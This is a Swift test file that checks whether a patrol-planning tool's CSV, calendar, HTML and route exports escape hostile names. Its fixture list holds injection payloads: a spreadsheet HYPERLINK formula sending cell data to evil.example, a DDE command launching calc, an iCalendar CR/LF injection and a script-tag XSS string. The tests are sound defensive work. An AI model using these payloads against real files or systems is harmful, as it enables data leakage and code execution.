import Foundation
#if canImport(FoundationXML)
import FoundationXML
#endif
import Testing
import Hotspots
import Patrols
@testable import RiskTerrain

/// Hostile names through every export: a spreadsheet formula, a CR that would split a CSV row or
/// start an iCalendar property, a `<script>`, emoji and a 10 kB name, given to the sample's
/// hotspots (labels and StreetSafe reasons), to the places of the patrol plan and to a model term,
/// then written as hotspots.csv, rrv.csv, the patrol CSV, JSON, calendars, briefings and routes.
@Suite(.serialized) struct HostileExportTests {
    static let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed",
        "Venue\rX-INJECT:1\r\nBEGIN:VEVENT\r\nUID:evil", "Line\nbreak, \"quoted\"", "<script>alert('x')</script>",
        "🍺 The Goat 👩‍👩‍👧", String(repeating: "Ä", count: 5_000), "\r=1+1", "nul\u{0}bell\u{7}esc\u{1B}",
    ]
    static func hostile(_ i: Int) -> String { names[i % names.count] }

    /// A CSV read back: every row has the header's fields, and every text field a spreadsheet
    /// would run (leading = + - @ TAB CR) carries the leading apostrophe.
    static func checkCSV(_ csv: String, columns: [String]) throws -> [[String: String]] {
        let rows = CalendarStructure.parseCSV(csv)
        #expect(rows.first == columns)
        for r in rows.dropFirst() {
            #expect(r.count == columns.count, "a row of \(r.count) fields under \(columns.count) columns: a name split it")
            for f in r { if let c = f.unicodeScalars.first { #expect(!["=", "+", "@", "\t", "\r"].contains(c), "a formula left live: \(f.prefix(30))") } }
        }
        return rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(columns, $0)) }
    }

    @Test func theCSVWriterQuotesAndNeutralises() {
        #expect(CSVWriter.text("=1+1") == "'=1+1" && CSVWriter.text("-x") == "'-x" && CSVWriter.text("@a") == "'@a")
        #expect(CSVWriter.text("\tx") == "'\tx" && CSVWriter.text("\rx") == "\"'\rx\"" && CSVWriter.text("+x") == "'+x")
        #expect(CSVWriter.text("a,b") == "\"a,b\"" && CSVWriter.text("say \"hi\"") == "\"say \"\"hi\"\"\"" && CSVWriter.text("a\nb") == "\"a\nb\"")
        #expect(CSVWriter.text("plain") == "plain" && CSVWriter.number("-0.42") == "-0.42")
        #expect(CSVWriter.document(header: ["a", "b"], rows: [[.text("=x"), .number("-1")]]) == "a,b\n'=x,-1\n")
        #expect(ICalendarWriter.escape("a\r\nb\rc\nd\u{7}e\u{2028}f") == "a\\nb\\nc\\nde\\nf")
        var w = ICalendarWriter()
        w.text("SUMMARY", "x\rBEGIN:VEVENT")
        #expect(w.render() == "SUMMARY:x\\nBEGIN:VEVENT\r\n")
        #expect(PatrolBriefing.html("<script>\"&\r") == "&lt;script&gt;&quot;&amp; " && PatrolRoutes.xml("<a'\u{1}>") == "&lt;a&apos;&gt;")
    }

    @Test func hostileNamesGoThroughEveryExportAsText() throws {
        let spec = PatrolPlanTests.spec, fitted = PatrolPlanTests.fitted
        let o = spec.patrols ?? PatrolOptions()
        let found = try HotspotStage.find(fitted, options: spec.hotspots, streetSafe: fitted.inputs.streetSafe)
        let hotspots = found.enumerated().map { i, h in
            Hotspot(cluster: h.cluster, label: Self.hostile(i), lonLat: h.lonLat, shares: h.shares, narrative: h.narrative, events: h.events,
                    reports: h.reports, lens: h.lens, topConcern: (Self.hostile(i + 5), 0.5), giStarHotShare: h.giStarHotShare)
        }
        // hotspots.csv
        let rows = try Self.checkCSV(HotspotOutputs.csv(hotspots, Disclosure(threshold: 5)), columns: HotspotOutputs.fields.map(\.name))
        #expect(rows.count == hotspots.count)
        for (r, h) in zip(rows, hotspots) {
            let lead = h.label.unicodeScalars.first.map { ["=", "+", "-", "@", "\t", "\r"].contains($0) } ?? false
            #expect(r["label"] == (lead ? "'" : "") + h.label, "the label did not come back as text")
        }
        // rrv.csv
        let term = fitted.model.terms[0]
        let bad = FittedModel.TermRow(name: term.name, factor: Self.names[0], influence: Self.names[5], distanceM: term.distanceM, bandwidthM: term.bandwidthM,
                                      coefficient: -0.5, stdError: term.stdError, z: term.z, p: term.p, ciLow: term.ciLow, ciHigh: term.ciHigh,
                                      rrv: term.rrv, rrvCiLow: term.rrvCiLow, rrvCiHigh: term.rrvCiHigh, unit: Self.names[7])
        let rrv = try Self.checkCSV(RunOutputs.rrvCSV([bad] + fitted.model.terms),
                                    columns: ["factor", "influence", "distance_m", "bandwidth_m", "unit", "rrv", "rrv_ci_low", "rrv_ci_high", "coefficient", "std_error", "z", "p"])
        #expect(rrv.count == fitted.model.terms.count + 1 && rrv.contains { $0["coefficient"] == "-0.5" })

        // the patrol plan, with hostile hotspot and place names
        let (outcome, streetSafe) = try PatrolPlanner.readEvents(spec, crs: fitted.inputs.crs, options: o)
        let built = try PatrolSites.build(fitted, hotspots: hotspots, options: o, outcome: outcome, streetSafe: streetSafe)
        var k = 0
        let sites = PatrolSites(sites: built.sites.map { s in
            PatrolSites.Site(hotspot: s.hotspot, places: s.places.map { p in
                k += 1
                return PatrolPlan.Place(name: Self.hostile(k), kind: p.kind, x: p.x, y: p.y, lon: p.lon, lat: p.lat)
            }, licensedPremises: s.licensedPremises, crimeProfile: s.crimeProfile, streetSafeProfile: s.streetSafeProfile, reports: s.reports,
            crimeHours: s.crimeHours, reportHours: s.reportHours, riskShare: s.riskShare)
        }, crimeTimed: built.crimeTimed, timedReports: built.timedReports, notes: built.notes, crimeHours: built.crimeHours, reportHours: built.reportHours)
        let week = try #require(PlanWeek("2025-W02", timeZone: TimeZone(identifier: o.timeZone)!))
        let scheduled = PatrolPlanner.schedule(sites, options: o, week: week, seed: 1, hasStreetSafe: true, roads: nil)
        let plan = PatrolPlanner.document(scheduled, sites: sites, spec: spec, options: o, week: week, range: ("2024-01", "2024-12"), seed: 1,
                                          events: fitted.design.events)
        let patrols = plan.operations.flatMap(\.patrols)
        #expect(patrols.contains { $0.hotspotLabel.count == 5_000 } && patrols.contains { $0.places.contains { $0.name.hasPrefix("=") } })
        let csv = PatrolOutputs.csv(plan)
        let planRows = try Self.checkCSV(csv, columns: PatrolOutputs.columns)
        #expect(planRows.count == patrols.count)
        for (team, ics) in PatrolCalendar.render(plan) {
            try CalendarStructure.check(ics, csv: team == nil ? csv : nil)
            #expect(!ICalendarWriter.unfold(ics).contains { $0.hasPrefix("X-INJECT") || $0.hasPrefix("UID:evil") })
            let lines = ICalendarWriter.unfold(ics)
            #expect(lines.filter { $0 == "BEGIN:VEVENT" }.count == lines.filter { $0 == "END:VEVENT" }.count)
            #expect(lines.filter { $0 == "BEGIN:VEVENT" }.count == plan.operations.flatMap(\.patrols).filter { team == nil || $0.team == team }.count)
        }
        let json = try JSONSerialization.jsonObject(with: PatrolOutputs.json(plan)) as? [String: Any]
        #expect(json?["operations"] != nil)
        for (_, html) in PatrolBriefing.render(plan) {
            #expect(!html.contains("<script") && html.contains("&lt;script&gt;") && !html.unicodeScalars.contains { $0 == "\r" || $0.value < 9 })
        }
        for r in PatrolRoutes.render(plan) {
            for doc in [r.gpx, r.kml] {
                #expect(XMLParser(data: Data(doc.utf8)).parse(), "\(r.name) is not well-formed XML")
                #expect(!doc.contains("<script"))
            }
        }
    }
}
